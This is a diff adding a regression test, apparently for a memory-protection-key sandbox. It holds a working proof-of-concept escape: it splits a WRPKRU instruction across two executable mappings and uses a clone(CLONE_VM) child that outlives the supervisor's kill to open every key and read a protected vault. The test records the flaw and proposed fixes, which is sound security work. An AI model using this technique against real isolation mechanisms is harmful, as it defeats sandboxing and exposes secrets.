@@ -1,0 +1,128 @@
+// The supervisor judges a new executable file mapping with its
+// executable neighbours once the kernel has made it, and when their bytes
+// across an edge make a WRPKRU it kills the process (kill(tgid, SIGKILL);
+// runtime/supervisor-exec.c bh_supervise_exec, judge_edges). The mapping
+// stays: a process that shares the memory without being a thread of the
+// process (clone(CLONE_VM), which the filter allows; docs/hardening.md
+// names it as a race "in the moment between the mapping and the kill") is
+// neither stopped during the judgement nor killed after it, and the joint
+// bytes are still there when its parent is gone. The default domain maps
+// A (a sealed memfd page ending in 0F 01), starts a clone(CLONE_VM) child
+// that waits for its parent's end, and maps B (a page starting with EF C3)
+// right after A. The supervisor finds the split WRPKRU and kills the
+// parent; the child then jumps to A's last two bytes with eax = ecx = edx
+// = 0, every key opens, and it reads the vault's page (no race: it waits
+// as long as it likes). Found in the fifth review (attacker model B);
+// reproduced in the QEMU guest (6.1) as uid 65534.
+//
+// The fix: what a kill after the fact leaves must not outlive it. Either
+// judge before the call and refuse it (the neighbours of a MAP_FIXED
+// address; for other calls every executable edge), or kill every process
+// whose memory is the caller's (kcmp KCMP_VM), or refuse clone(CLONE_VM)
+// without CLONE_THREAD (vfork included) for our process.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -o %t.off
+// RUN: %run %t.off | FileCheck %s --check-prefix=OFF
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
+// RUN: %run %t.on | FileCheck %s --check-prefix=ON
+// OFF: == clone-vm-split
+// OFF: ATTACK SUCCEEDED: the process sharing the memory, after the kill, read "vault-secret
+// ON-NOT: ATTACK SUCCEEDED
+// ON: clone-vm-split: stopped by signal 9
+// ON: attack failed
+// ON: parent's vault intact: 1
+#include "Inputs/target.h"
+#include "Inputs/libc-wrpkru.h"
+
+#include <poll.h>
+#include <sched.h>
+
+#ifndef F_ADD_SEALS
+#define F_ADD_SEALS 1033
+#define F_SEAL_WRITE 0x0008
+#endif
+
+static int sealed(const unsigned char *page) {
+  int fd = memfd_create("code", MFD_CLOEXEC | MFD_ALLOW_SEALING);
+  if (fd < 0 || write(fd, page, 4096) != 4096 || fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE))
+    return -1;
+  return fd;
+}
+
+static int out[2];
+static unsigned char *at;
+static char stack[65536] __attribute__((aligned(16)));
+
+/* The process sharing the memory: it waits for its parent's end, then
+ * jumps to the joint bytes. System calls only (it shares the TLS). */
+static int sharer(void *parent) {
+  while (syscall(SYS_getppid) == (long)parent)
+    syscall(SYS_sched_yield);
+  static char got[48];
+  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\txorl %%edx, %%edx\n\t"
+                   "call *%0\n\t"
+                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\tmovl $40, %%ecx\n\trep movsb"
+                   :
+                   : "r"(at + 4094), "r"(vault_data), "r"(got)
+                   : "rax", "rcx", "rdx", "rsi", "rdi", "memory");
+  syscall(SYS_write, out[1], got, 40);
+  syscall(SYS_exit, 0);
+  return 0;
+}
+
+static void attack(void) {
+  if (drop_to_nobody())
+    return;
+  /* A ends in 0F 01, B starts with EF C3 (WRPKRU's last byte, ret). */
+  static unsigned char a[4096], b[4096];
+  memset(a, 0x90, sizeof a); /* nop */
+  a[4094] = 0x0f, a[4095] = 0x01;
+  memset(b, 0xcc, sizeof b);
+  b[0] = 0xff ^ flip, b[1] = 0xc3;
+  int fa = sealed(a), fb = sealed(b);
+  at = mmap(NULL, 8192, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  if (fa < 0 || fb < 0 || at == MAP_FAILED || munmap(at, 8192) ||
+      mmap(at, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fa, 0) != at) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  if (clone(sharer, stack + sizeof stack, CLONE_VM | SIGCHLD, (void *)(long)getpid()) < 0) {
+    printf("setup: clone: %s\n", strerror(errno));
+    return;
+  }
+  /* The second half: the supervisor kills this process for it. */
+  mmap(at + 4096, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fb, 0);
+  printf("mapped\n");
+}
+
+int main(void) {
+  if (pipe(out))
+    return 1;
+  vault_block = vault_new_block();
+  printf("== clone-vm-split\n");
+  fflush(stdout);
+  pid_t pid = fork();
+  if (pid == 0) {
+    attack();
+    fflush(stdout);
+    _exit(0);
+  }
+  int st;
+  if (pid < 0 || waitpid(pid, &st, 0) != pid)
+    return 1;
+  if (WIFSIGNALED(st))
+    printf("clone-vm-split: stopped by signal %d\n", WTERMSIG(st));
+  else
+    printf("clone-vm-split: exited %d\n", WEXITSTATUS(st));
+  close(out[1]);
+  struct pollfd p = {out[0], POLLIN, 0};
+  static char got[48];
+  errno = 0;
+  if (poll(&p, 1, 20000) == 1 && read(out[0], got, 40) == 40)
+    report_read("the process sharing the memory, after the kill,", got);
+  else
+    report_read("the process sharing the memory, after the kill,", NULL);
+  printf("parent's vault intact: %d\n", vault_data_intact() && vault_block_intact(vault_block));
+  return 0;
+}
